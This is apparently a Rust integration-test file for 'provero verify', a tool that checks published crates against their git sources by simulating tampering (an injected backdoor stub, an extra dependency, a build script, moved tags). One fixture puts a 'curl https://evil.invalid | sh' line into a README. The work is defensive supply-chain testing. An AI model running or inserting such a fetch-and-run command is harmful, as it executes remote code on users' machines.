//! End-to-end tests of `provero verify` against crates served from a local
//! sparse index, with sources in local git repositories reached through
//! `--git-rewrite`. Loopback only; every test builds its own world.
//!
//! Finding paths are expected relative to the package root (`src/lib.rs`,
//! not `name-version/src/lib.rs` and not the path in the repository).

mod common;

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::tarball::{self, Entry};
use common::*;

fn assert_exit(out: &Output, code: i32) {
    assert_eq!(out.code, code, "unexpected exit code\n{}", out.dump());
}

/// Every red flag of `r` is `code` at `path` (nothing else was flagged).
fn assert_only_red_flag(r: &PackageResult, code: &str, path: &str) {
    let flags = r.red_flags();
    assert!(!flags.is_empty(), "no red flags:\n{:#}", r.json);
    for f in flags {
        assert_eq!(
            (f.code.as_str(), f.path.as_deref()),
            (code, Some(path)),
            "unexpected red flag; result:\n{:#}",
            r.json
        );
    }
}

fn assert_path_in_repo(r: &PackageResult, expected: &str) {
    let p = &r.json["source"]["path_in_repo"];
    let ok = if expected.is_empty() {
        p.is_null() || p == ""
    } else {
        p == expected
    };
    assert!(
        ok,
        "source.path_in_repo should be {expected:?}; result:\n{:#}",
        r.json
    );
}

/// A published honest crate: the starting point of most tests.
fn published(w: &World, name: &str) -> (CrateFixture, String) {
    let fx = w.honest_crate(name, "1.0.0");
    let dl = w.publish(&fx, &fx.crate_bytes);
    (fx, dl)
}

/// An honest crate whose published archive is `edit`ed first.
fn published_tampered(
    w: &World,
    name: &str,
    edit: impl FnOnce(&mut CrateArchive),
) -> (CrateFixture, String) {
    let fx = w.honest_crate(name, "1.0.0");
    let mut ar = fx.archive();
    edit(&mut ar);
    let dl = w.publish(&fx, &ar.to_bytes());
    (fx, dl)
}

// ---------------------------------------------------------------- honest

#[test]
fn honest_crate_is_verified() {
    let w = World::new();
    let (fx, dl) = published(&w, "honest");
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("honest");
    r.assert_verdict("verified").assert_clean();
    assert_eq!(r.json["package"]["ecosystem"], "crates");
    assert_eq!(r.json["package"]["version"], "1.0.0");
    assert_eq!(r.commit(), Some(fx.commit.as_str()));
    assert_eq!(
        r.json["source"]["repository"],
        "https://github.com/acme/honest"
    );
    assert_path_in_repo(&r, "");
    assert_eq!(r.json["artifact"]["url"], w.server.url(&dl));
    assert_eq!(r.json["artifact"]["sha256"], sha256_hex(&fx.crate_bytes));
    assert!(w.server.hits(&dl) >= 1);
    assert!(w.server.hits("/index/config.json") >= 1);
    assert!(w.server.hits("/index/ho/ne/honest") >= 1);
    w.assert_cwd_untouched();
}

#[test]
fn dl_template_without_markers_appends_crate_version_download() {
    let w = World::with_style(DlStyle::NoMarkers);
    let (fx, dl) = published(&w, "plain");
    assert_eq!(dl, "/api/v1/crates/plain/1.0.0/download");
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("plain").assert_verdict("verified");
    assert_eq!(w.server.hits(&dl), 1, "{:?}", w.server.requests());
}

#[test]
fn dl_template_with_checksum_marker() {
    let w = World::with_style(DlStyle::Checksum);
    let (fx, dl) = published(&w, "bycksum");
    assert_eq!(dl, format!("/blobs/{}", sha256_hex(&fx.crate_bytes)));
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("bycksum").assert_verdict("verified");
    assert_eq!(w.server.hits(&dl), 1, "{:?}", w.server.requests());
}

#[test]
fn spec_without_version_takes_latest_unyanked() {
    let w = World::new();
    let repo = w.work_repo("multi");
    let url = World::repo_url("multi");
    common::crates::write_crate(&repo, "", "multi", "0.1.0", Some(&url));
    repo.commit_all("0.1.0");
    let old = w.package(&repo, "multi", "0.1.0", false);
    common::crates::write_crate(&repo, "", "multi", "0.2.0", Some(&url));
    let new_commit = repo.commit_all("0.2.0");
    let new = w.package(&repo, "multi", "0.2.0", false);
    w.make_upstream(&repo, "multi");
    w.registry.publish("multi", "0.1.0", &old);
    w.registry.publish("multi", "0.2.0", &new);
    // A yanked newer version whose download does not even exist.
    w.registry
        .add_index_line("multi", "0.3.0", &sha256_hex(b"gone"), true);

    let (out, rep) = w.run_json(&[], &["crates:multi"]);
    assert_exit(&out, 0);
    let r = rep.result("multi");
    assert_eq!(r.json["package"]["version"], "0.2.0");
    r.assert_verdict("verified");
    assert_eq!(r.commit(), Some(new_commit.as_str()));
}

#[test]
fn output_flag_writes_the_json_report_to_a_file() {
    let w = World::new();
    let (fx, _) = published(&w, "tofile");
    let file = w.root().join("report.json");
    let out = w.run(
        &["--format", "json", "--output", file.to_str().unwrap()],
        &[&fx.spec()],
    );
    assert_exit(&out, 0);
    let text = std::fs::read_to_string(&file).expect("--output file written");
    let rep = Report::parse(&text, &out);
    rep.result("tofile").assert_verdict("verified");
}

// ------------------------------------------------------------ red flags

#[test]
fn changed_line_is_content_differs() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "changed", |ar| {
        ar.replace_text("src/lib.rs", "    a + b\n", "    a + b + 1\n");
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("changed");
    r.assert_verdict("mismatch");
    r.assert_finding("content-differs", "red-flag", Some("src/lib.rs"));
    assert_only_red_flag(&r, "content-differs", "src/lib.rs");
    assert_eq!(r.commit(), Some(fx.commit.as_str()));
}

#[test]
fn injected_file_is_file_not_in_source() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "injected", |ar| {
        ar.set(
            "src/backdoor.rs",
            "pub fn exfiltrate() { /* not in git */ }\n",
        );
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("injected");
    r.assert_verdict("mismatch");
    r.assert_finding("file-not-in-source", "red-flag", Some("src/backdoor.rs"));
    assert_only_red_flag(&r, "file-not-in-source", "src/backdoor.rs");
}

#[test]
fn wrong_index_checksum_is_checksum_mismatch() {
    let w = World::new();
    let fx = w.honest_crate("badsum", "1.0.0");
    let wrong = sha256_hex(b"something else entirely");
    w.registry
        .publish_with_cksum("badsum", "1.0.0", &fx.crate_bytes, &wrong, false);
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("badsum");
    r.assert_verdict("mismatch");
    r.assert_finding("checksum-mismatch", "red-flag", None);
}

#[test]
fn published_manifest_with_extra_dependency_is_manifest_mismatch() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "manif", |ar| {
        let toml = ar.get_str("Cargo.toml");
        assert!(!toml.contains("[dependencies"), "{toml}");
        ar.set(
            "Cargo.toml",
            format!("{toml}\n[dependencies.evil-helper]\nversion = \"1.0\"\n"),
        );
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("manif");
    r.assert_verdict("mismatch");
    r.assert_finding("manifest-mismatch", "red-flag", Some("Cargo.toml"));
}

#[test]
fn injected_build_script_is_manifest_mismatch_and_file_not_in_source() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "buildrs", |ar| {
        ar.replace_text("Cargo.toml", "build = false\n", "build = \"build.rs\"\n");
        ar.set("build.rs", "fn main() { /* runs at build time */ }\n");
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("buildrs");
    r.assert_verdict("mismatch");
    r.assert_finding("manifest-mismatch", "red-flag", Some("Cargo.toml"));
    r.assert_finding("file-not-in-source", "red-flag", Some("build.rs"));
}

#[test]
fn tampered_cargo_toml_orig_is_content_differs() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "origedit", |ar| {
        // A semantic edit (not only a comment, which main compares as TOML
        // and excuses): the original manifest no longer equals the source.
        ar.replace_text(
            "Cargo.toml.orig",
            "description = \"fixture crate origedit\"",
            "description = \"edited after the commit\"",
        );
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("origedit");
    r.assert_verdict("mismatch");
    assert_only_red_flag(&r, "content-differs", "Cargo.toml.orig");
}

#[test]
fn json_content_differs_carries_a_diff() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "jsondiff", |ar| {
        ar.replace_text("src/lib.rs", "    a + b\n", "    a + b + 1\n");
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("jsondiff");
    let f = r.json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "content-differs")
        .cloned()
        .unwrap_or_else(|| panic!("no content-differs:\n{:#}", r.json));
    let diff = f["diff"]
        .as_str()
        .unwrap_or_else(|| panic!("no diff string on {f:#}"));
    assert!(diff.lines().any(|l| l == "-    a + b"), "{diff}");
    assert!(diff.lines().any(|l| l == "+    a + b + 1"), "{diff}");
}

#[test]
fn dirty_tree_is_recorded_and_the_edit_flagged() {
    let w = World::new();
    let fx = w.honest_crate("dirty", "1.0.0");
    fx.repo.write(
        "src/lib.rs",
        LIB_RS.replace("    a + b\n", "    a.wrapping_add(b)\n"),
    );
    let bytes = w.package(&fx.repo, "dirty", "1.0.0", true);
    w.publish(&fx, &bytes);
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("dirty");
    r.assert_verdict("mismatch");
    r.assert_finding("dirty", "warning", None);
    r.assert_finding("content-differs", "red-flag", Some("src/lib.rs"));
    assert_only_red_flag(&r, "content-differs", "src/lib.rs");
}

// -------------------------------------------------------------- warnings

#[test]
fn crlf_only_difference_is_a_warning() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "crlf", |ar| {
        let text = ar.get_str("src/lib.rs");
        ar.set("src/lib.rs", text.replace('\n', "\r\n"));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("crlf");
    r.assert_verdict("verified").assert_no_red_flags();
    r.assert_finding("line-endings-differ", "warning", Some("src/lib.rs"));
    r.assert_no_finding("content-differs");
}

#[test]
fn editor_and_os_junk_is_a_warning() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "junk", |ar| {
        ar.set(".DS_Store", vec![0u8, 0, 0, 1, b'B', b'u', b'd', b'1']);
        ar.set("src/.lib.rs.swp", b"b0VIM 9.0\0\0\0".to_vec());
        // rustfmt's backup of a file it rewrote, and a profiler's output (libc 0.2.7,
        // regex 0.1.35, parking_lot 0.1.1 shipped such files).
        ar.set(
            "src/lib.rs.bk",
            b"pub fn add(a: u32, b: u32) -> u32 { a + b }\n".to_vec(),
        );
        ar.set(
            "callgrind.out.9675",
            b"# callgrind format\nversion: 1\n".to_vec(),
        );
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("junk");
    r.assert_verdict("verified").assert_no_red_flags();
    for p in [
        ".DS_Store",
        "src/.lib.rs.swp",
        "src/lib.rs.bk",
        "callgrind.out.9675",
    ] {
        r.assert_finding("junk-not-in-source", "warning", Some(p));
    }
}

#[test]
fn patch_and_publish_edited_out_before_publishing_are_excused_and_nothing_more() {
    // As tokio 0.1.x, proc-macro2 0.4.x and mio 0.7.x: the committed manifest has a path
    // `[patch]` (which does not package) and `publish = false`; the publisher removed them in
    // the work tree and published without committing.
    let committed =
        "publish = false\n\n[patch.crates-io]\nfixture-helper = { path = \"helper\" }\n\n\
                     [profile.release]\nlto = true\n";
    let run = |name: &str, also_edit: bool| {
        let w = World::new();
        let repo = w.work_repo(name);
        let url = World::repo_url(name);
        common::crates::write_crate(&repo, "", name, "1.0.0", Some(&url));
        let manifest = common::crates::manifest(name, "1.0.0", Some(&url), "");
        repo.write("Cargo.toml", format!("{manifest}{committed}"));
        let c = repo.commit_all("release 1.0.0");
        repo.tag("v1.0.0", &c);
        w.make_upstream(&repo, name);
        let mut edited = manifest.clone();
        if also_edit {
            edited = edited.replace("description = \"fixture crate", "description = \"edited");
        }
        repo.write("Cargo.toml", edited);
        let bytes = w.package(&repo, name, "1.0.0", true);
        w.registry.publish(name, "1.0.0", &bytes);
        let (out, rep) = w.run_json(&["--no-db"], &[&format!("crates:{name}@1.0.0")]);
        (out, rep.result(name).json.clone())
    };
    let (out, r) = run("rootonly", false);
    assert_exit(&out, 0);
    let r = PackageResult { json: r };
    r.assert_verdict("verified").assert_no_red_flags();
    r.assert_finding("dirty", "warning", None);
    let excused = r.json["excused"].to_string();
    assert!(
        excused.contains("Cargo.toml.orig") && excused.contains("cargo-root-only-sections"),
        "{:#}",
        r.json
    );
    // Any other edit alongside is still the red flag it was.
    let (out, r) = run("rootplus", true);
    assert_exit(&out, 1);
    let r = PackageResult { json: r };
    assert_only_red_flag(&r, "content-differs", "Cargo.toml.orig");
}

#[test]
fn tag_pointing_elsewhere_is_tag_disagrees() {
    let w = World::new();
    let (fx, _) = published(&w, "tagmoved");
    // A later commit upstream, and the version tag moved onto it.
    fx.repo
        .write("README.md", "# tagmoved\n\nEdited after release.\n");
    let later = fx.repo.commit_all("docs");
    fx.repo.push_to(&fx.upstream, &["main"]);
    fx.upstream.git(&["tag", "-f", "v1.0.0", &later]);
    assert_ne!(later, fx.commit);

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("tagmoved");
    r.assert_verdict("verified").assert_no_red_flags();
    r.assert_finding("tag-disagrees", "warning", None);
    assert_eq!(
        r.commit(),
        Some(fx.commit.as_str()),
        "the recorded commit, not the tag, is what was verified"
    );
}

#[test]
fn commit_reachable_from_no_ref_is_commit_not_on_branch() {
    let w = World::new();
    let repo = w.work_repo("orphan");
    common::crates::write_crate(
        &repo,
        "",
        "orphan",
        "1.0.0",
        Some(&World::repo_url("orphan")),
    );
    repo.commit_all("import");
    let upstream = w.make_upstream(&repo, "orphan");
    repo.checkout_new("feature");
    repo.write(
        "src/lib.rs",
        format!("{LIB_RS}\n/// Only on a feature branch.\npub fn extra() {{}}\n"),
    );
    let commit = repo.commit_all("feature work");
    let bytes = w.package(&repo, "orphan", "1.0.0", false);
    repo.push_to(&upstream, &["feature"]);
    upstream.delete_branch("feature");
    assert!(
        upstream.has_commit(&commit),
        "objects stay after the branch is deleted"
    );
    w.registry.publish("orphan", "1.0.0", &bytes);

    let (out, rep) = w.run_json(&[], &["crates:orphan@1.0.0"]);
    assert_exit(&out, 0);
    let r = rep.result("orphan");
    r.assert_verdict("verified").assert_no_red_flags();
    r.assert_finding("commit-not-on-branch", "warning", None);
    assert_eq!(r.commit(), Some(commit.as_str()));
}

#[test]
fn commit_only_on_a_pull_request_ref_is_commit_not_on_branch() {
    // GitHub serves a fork's pull-request head under the parent's URL
    // (refs/pull/N/head): such a commit is fetchable but not the project's.
    let w = World::new();
    let repo = w.work_repo("imposter");
    common::crates::write_crate(
        &repo,
        "",
        "imposter",
        "1.0.0",
        Some(&World::repo_url("imposter")),
    );
    repo.commit_all("import");
    let upstream = w.make_upstream(&repo, "imposter");
    repo.checkout_new("fork-work");
    repo.write(
        "src/lib.rs",
        format!("{LIB_RS}\n/// From a fork.\npub fn sneaky() {{}}\n"),
    );
    let commit = repo.commit_all("fork change");
    let bytes = w.package(&repo, "imposter", "1.0.0", false);
    repo.push_to(&upstream, &["fork-work:refs/pull/7/head"]);
    assert_eq!(upstream.rev_parse("refs/pull/7/head"), commit);
    w.registry.publish("imposter", "1.0.0", &bytes);

    let (out, rep) = w.run_json(&[], &["crates:imposter@1.0.0"]);
    assert_exit(&out, 0);
    let r = rep.result("imposter");
    r.assert_no_red_flags();
    r.assert_finding("commit-not-on-branch", "warning", None);
    assert_eq!(r.commit(), Some(commit.as_str()));
}

// ---------------------------------------------------- finding the commit

#[test]
fn unpushed_commit_is_commit_not_found() {
    let w = World::new();
    let fx = w.honest_crate("unpushed", "1.0.0");
    // Release prep committed locally, packaged, never pushed.
    fx.repo.write(
        "src/lib.rs",
        LIB_RS.replace("Adds two numbers.", "Adds two numbers (checked)."),
    );
    let local = fx.repo.commit_all("release prep");
    let bytes = w.package(&fx.repo, "unpushed", "1.0.0", false);
    assert!(!fx.upstream.has_commit(&local));
    w.publish(&fx, &bytes);

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("unpushed");
    r.assert_verdict("unverifiable").assert_no_red_flags();
    let f = r.assert_finding("commit-not-found", "unverifiable", None);
    assert!(
        f.message.contains(&local[..7]),
        "the message should name the missing commit {local}: {f:?}"
    );
}

#[test]
fn missing_vcs_info_falls_back_to_annotated_version_tag() {
    let w = World::new();
    let fx = w.honest_crate("novcs", "1.0.0");
    fx.upstream.delete_tag("v1.0.0");
    fx.upstream
        .tag_annotated("v1.0.0", &fx.commit, "release 1.0.0");
    let mut ar = fx.archive();
    ar.remove(".cargo_vcs_info.json");
    w.publish(&fx, &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("novcs");
    r.assert_verdict("verified").assert_no_red_flags();
    r.assert_finding("commit-from-tag", "info", None);
    assert_eq!(r.commit(), Some(fx.commit.as_str()), "annotated tag peeled");
}

#[test]
fn missing_vcs_info_uses_name_prefixed_tag() {
    let w = World::new();
    let fx = w.honest_crate("prefixed", "1.0.0");
    fx.upstream.delete_tag("v1.0.0");
    fx.upstream.tag("prefixed-v1.0.0", &fx.commit);
    let mut ar = fx.archive();
    ar.remove(".cargo_vcs_info.json");
    w.publish(&fx, &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("prefixed");
    r.assert_verdict("verified");
    r.assert_finding("commit-from-tag", "info", None);
    assert_eq!(r.commit(), Some(fx.commit.as_str()));
}

#[test]
fn missing_vcs_info_and_no_tag_finds_the_commit_by_manifest() {
    // No vcs info and no tag: the commit that holds the published Cargo.toml.orig byte for
    // byte is used (found by blob id), and every other file is still compared with it.
    let w = World::new();
    let fx = w.honest_crate("notag", "1.0.0");
    fx.upstream.delete_tag("v1.0.0");
    let mut ar = fx.archive();
    ar.remove(".cargo_vcs_info.json");
    w.publish(&fx, &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("notag");
    r.assert_verdict("verified").assert_no_red_flags();
    r.assert_finding("commit-from-manifest", "info", None);
    assert_eq!(
        r.json["source"]["commit"],
        fx.commit.as_str(),
        "{:#}",
        r.json
    );
}

#[test]
fn missing_vcs_info_no_tag_and_manifest_never_committed_is_no_commit() {
    let w = World::new();
    let fx = w.honest_crate("notag2", "1.0.0");
    fx.upstream.delete_tag("v1.0.0");
    let mut ar = fx.archive();
    ar.remove(".cargo_vcs_info.json");
    let orig = ar.get_str("Cargo.toml.orig");
    ar.set(
        "Cargo.toml.orig",
        format!("{orig}\n# edited after the last commit\n"),
    );
    w.publish(&fx, &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("notag2");
    r.assert_verdict("unverifiable").assert_no_red_flags();
    r.assert_finding("no-commit", "unverifiable", None);
}

#[test]
fn tag_for_a_longer_version_is_not_taken() {
    // Version 1.0.1; the only tag is v1.0.10 (on a commit whose manifest
    // even says 1.0.1), which must not match.
    let w = World::new();
    let fx = w.honest_crate("substr", "1.0.1");
    fx.upstream.delete_tag("v1.0.1");
    fx.upstream.tag("v1.0.10", &fx.commit);
    let mut ar = fx.archive();
    ar.remove(".cargo_vcs_info.json");
    w.publish(&fx, &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("substr");
    // Whatever else provero infers, it must not be from the v1.0.10 tag.
    r.assert_no_finding("commit-from-tag");
    assert!(
        r.json["source"]["tag"].is_null() || r.json["source"]["tag"] != "v1.0.10",
        "took the tag of a longer version:\n{:#}",
        r.json
    );
    assert_ne!(r.verdict(), "mismatch");
}

#[test]
fn monorepo_prefers_the_name_prefixed_tag() {
    // Two crates at 1.0.0 in one repository. `v1.0.0` is the sibling's
    // release; `beta-v1.0.0`, later, is beta's. Beta changed in between, so
    // taking `v1.0.0` would show a (false) content difference.
    let w = World::new();
    let repo = w.work_repo("mono");
    let url = World::repo_url("mono");
    repo.write(
        "Cargo.toml",
        "[workspace]\nmembers = [\"alpha\", \"beta\"]\nresolver = \"2\"\n",
    );
    common::crates::write_crate(&repo, "alpha", "alpha", "1.0.0", Some(&url));
    common::crates::write_crate(&repo, "beta", "beta", "1.0.0", Some(&url));
    let first = repo.commit_all("alpha release");
    repo.tag("v1.0.0", &first);
    repo.write(
        "beta/src/lib.rs",
        format!("{LIB_RS}\npub fn beta_only() {{}}\n"),
    );
    let second = repo.commit_all("beta release");
    repo.tag("beta-v1.0.0", &second);
    w.make_upstream(&repo, "mono");
    let bytes = w.package(&repo, "beta", "1.0.0", false);
    let mut ar = CrateArchive::read(&bytes);
    ar.remove(".cargo_vcs_info.json");
    w.registry.publish("beta", "1.0.0", &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &["crates:beta@1.0.0"]);
    assert_exit(&out, 0);
    let r = rep.result("beta");
    r.assert_verdict("verified");
    r.assert_finding("commit-from-tag", "info", None);
    assert_eq!(r.commit(), Some(second.as_str()));
    assert_path_in_repo(&r, "beta");
}

#[test]
fn of_two_directories_declaring_the_crate_the_one_holding_its_files_is_compared() {
    // As serde_derive 1.0.172-1.0.183: 1.0.0 was packaged from `precompiled/twin/` (a shim and
    // a binary built elsewhere), while `twin/`, shallower, declares the same crate; 1.0.1 was
    // packaged from `twin/`. No `.cargo_vcs_info.json` says which.
    let w = World::new();
    let repo = w.work_repo("twins");
    let url = World::repo_url("twins");
    repo.write(
        "Cargo.toml",
        "[workspace]\nmembers = [\"twin\"]\nexclude = [\"precompiled\"]\nresolver = \"2\"\n",
    );
    let release = |v: &str| {
        common::crates::write_crate(&repo, "twin", "twin", v, Some(&url));
        let manifest = common::crates::manifest("twin", v, Some(&url), "\n[workspace]\n");
        repo.write("precompiled/twin/Cargo.toml", manifest);
        repo.write(
            "precompiled/twin/src/lib.rs",
            "// Runs the precompiled binary.\npub fn shim() {}\n",
        );
        repo.write("precompiled/twin/README.md", "# twin\n\nA fixture.\n");
        let c = repo.commit_all(&format!("release {v}"));
        repo.tag(&format!("v{v}"), &c);
        c
    };
    let first = release("1.0.0");
    let target = w.root().join("cargo-target").join("precompiled");
    let precompiled = common::crates::cargo_package(
        &repo.path.join("precompiled/twin"),
        "twin",
        "1.0.0",
        &target,
        true,
    );
    let second = release("1.0.1");
    let from_twin = w.package(&repo, "twin", "1.0.1", true);
    w.make_upstream(&repo, "twins");
    let mut ar = CrateArchive::read(&precompiled);
    ar.remove(".cargo_vcs_info.json");
    ar.set(
        "twin-x86_64-unknown-linux-gnu",
        b"\x7fELF built elsewhere".to_vec(),
    );
    w.registry.publish("twin", "1.0.0", &ar.to_bytes());
    let mut ar = CrateArchive::read(&from_twin);
    ar.remove(".cargo_vcs_info.json");
    w.registry.publish("twin", "1.0.1", &ar.to_bytes());

    let (out, rep) = w.run_json(&["--no-db"], &["crates:twin@1.0.0", "crates:twin@1.0.1"]);
    assert_exit(&out, 1);
    let at = |v: &str| PackageResult {
        json: rep
            .results()
            .iter()
            .find(|r| r["package"]["version"] == v)
            .unwrap_or_else(|| panic!("no twin {v}:\n{:#}", rep.json))
            .clone(),
    };
    let r = at("1.0.0");
    assert_eq!(r.commit(), Some(first.as_str()));
    assert_path_in_repo(&r, "precompiled/twin");
    // The shim and the manifest are the source's there: only the binary is in no commit.
    r.assert_verdict("mismatch");
    assert_only_red_flag(&r, "file-not-in-source", "twin-x86_64-unknown-linux-gnu");
    r.assert_no_finding("content-differs");
    let r = at("1.0.1");
    assert_eq!(r.commit(), Some(second.as_str()));
    assert_path_in_repo(&r, "twin");
    r.assert_verdict("verified");
}

#[test]
fn no_repository_in_manifest_is_no_repository() {
    let w = World::new();
    let repo = w.work_repo("norepo");
    common::crates::write_crate(&repo, "", "norepo", "1.0.0", None);
    repo.commit_all("import");
    let bytes = w.package(&repo, "norepo", "1.0.0", false);
    w.registry.publish("norepo", "1.0.0", &bytes);

    let (out, rep) = w.run_json(&[], &["crates:norepo@1.0.0"]);
    assert_exit(&out, 0);
    let r = rep.result("norepo");
    r.assert_verdict("unverifiable").assert_no_red_flags();
    r.assert_finding("no-repository", "unverifiable", None);
}

#[test]
fn unreachable_repository_is_repository_unreachable() {
    let w = World::new();
    let (fx, _) = published(&w, "gone");
    std::fs::remove_dir_all(&fx.upstream.path).unwrap();

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("gone");
    r.assert_verdict("unverifiable").assert_no_red_flags();
    r.assert_finding("repository-unreachable", "unverifiable", None);
}

#[test]
fn repository_url_with_case_and_dot_git_is_normalised() {
    let w = World::new();
    let repo = w.work_repo("normrepo");
    common::crates::write_crate(
        &repo,
        "",
        "normrepo",
        "1.0.0",
        Some("https://github.com/Acme/NormRepo.git"),
    );
    let commit = repo.commit_all("import");
    w.make_upstream(&repo, "normrepo");
    let bytes = w.package(&repo, "normrepo", "1.0.0", false);
    w.registry.publish("normrepo", "1.0.0", &bytes);

    let (out, rep) = w.run_json(&[], &["crates:normrepo@1.0.0"]);
    assert_exit(&out, 0);
    let r = rep.result("normrepo");
    r.assert_verdict("verified");
    assert_eq!(r.commit(), Some(commit.as_str()));
}

#[test]
fn longest_git_rewrite_prefix_wins() {
    let w = World::new();
    let (fx, _) = published(&w, "rewrites");
    // Given after the specific rule: a "last one wins" reading would send
    // the clone to a directory that does not exist.
    let general = format!(
        "https://github.com/=file://{}/",
        w.root().join("nowhere").display()
    );
    let (out, rep) = w.run_json(&["--git-rewrite", &general], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("rewrites").assert_verdict("verified");
}

#[test]
fn specs_from_a_list_file() {
    let w = World::new();
    let (a, _) = published(&w, "listed");
    let (b, _) = published(&w, "alsolisted");
    let list = w.root().join("specs.txt");
    std::fs::write(
        &list,
        format!("# packages to check\n{}\n\n   {}  \n", a.spec(), b.spec()),
    )
    .unwrap();
    let (out, rep) = w.run_json(&["--list", list.to_str().unwrap()], &[]);
    assert_exit(&out, 0);
    assert_eq!(rep.results().len(), 2, "{:#}", rep.json);
    rep.result("listed").assert_verdict("verified");
    rep.result("alsolisted").assert_verdict("verified");
}

// ------------------------------------------------------------ workspaces

/// Repository `ws`: a workspace whose member `wsfoo` (0.3.0, in `wsfoo/`)
/// has `readme = "../README.md"`, a file symlink `LICENSE -> ../LICENSE-MIT`
/// and a directory symlink `tests/data -> ../../shared-data`. Returns the
/// packaged bytes and the commit.
fn symlinked_workspace(w: &World) -> (Vec<u8>, String) {
    let repo = w.work_repo("ws");
    repo.write(
        "Cargo.toml",
        "[workspace]\nmembers = [\"wsfoo\"]\nresolver = \"2\"\n",
    );
    repo.write("README.md", "# The workspace\n");
    repo.write("LICENSE-MIT", "MIT License\n\nCopyright (c) fixture\n");
    repo.write("shared-data/sample.txt", "shared fixture data\n");
    repo.write("shared-data/nested/deep.txt", "deeper\n");
    repo.write(
        "wsfoo/Cargo.toml",
        format!(
            "[package]\nname = \"wsfoo\"\nversion = \"0.3.0\"\nedition = \"2021\"\n\
             description = \"member\"\nlicense-file = \"LICENSE\"\nreadme = \"../README.md\"\n\
             repository = \"{}\"\n",
            World::repo_url("ws")
        ),
    );
    repo.write("wsfoo/src/lib.rs", LIB_RS);
    repo.symlink("wsfoo/LICENSE", "../LICENSE-MIT");
    repo.symlink("wsfoo/tests/data", "../../shared-data");
    let commit = repo.commit_all("workspace");
    repo.tag("wsfoo-v0.3.0", &commit);
    w.make_upstream(&repo, "ws");
    let bytes = w.package(&repo, "wsfoo", "0.3.0", false);
    let ar = CrateArchive::read(&bytes);
    // The fixture is what we think it is.
    assert_eq!(ar.get_str("README.md"), "# The workspace\n");
    assert!(ar.get_str("LICENSE").starts_with("MIT License"));
    assert_eq!(ar.get_str("tests/data/sample.txt"), "shared fixture data\n");
    assert_eq!(ar.get_str("tests/data/nested/deep.txt"), "deeper\n");
    (bytes, commit)
}

#[test]
fn workspace_member_with_outside_readme_and_symlinks_is_verified() {
    let w = World::new();
    let (bytes, commit) = symlinked_workspace(&w);
    w.registry.publish("wsfoo", "0.3.0", &bytes);

    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
    assert_exit(&out, 0);
    let r = rep.result("wsfoo");
    r.assert_verdict("verified").assert_clean();
    assert_eq!(r.commit(), Some(commit.as_str()));
    assert_path_in_repo(&r, "wsfoo");
}

#[test]
fn tampered_readme_copied_from_outside_the_package_is_content_differs() {
    let w = World::new();
    let (bytes, _) = symlinked_workspace(&w);
    let mut ar = CrateArchive::read(&bytes);
    ar.set(
        "README.md",
        "# The workspace\n\ncurl https://evil.invalid | sh\n",
    );
    w.registry.publish("wsfoo", "0.3.0", &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
    assert_exit(&out, 1);
    let r = rep.result("wsfoo");
    r.assert_verdict("mismatch");
    assert_only_red_flag(&r, "content-differs", "README.md");
}

#[test]
fn tampered_file_behind_a_directory_symlink_is_content_differs() {
    let w = World::new();
    let (bytes, _) = symlinked_workspace(&w);
    let mut ar = CrateArchive::read(&bytes);
    ar.set("tests/data/nested/deep.txt", "deeper, and different\n");
    w.registry.publish("wsfoo", "0.3.0", &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
    assert_exit(&out, 1);
    let r = rep.result("wsfoo");
    r.assert_verdict("mismatch");
    assert_only_red_flag(&r, "content-differs", "tests/data/nested/deep.txt");
}
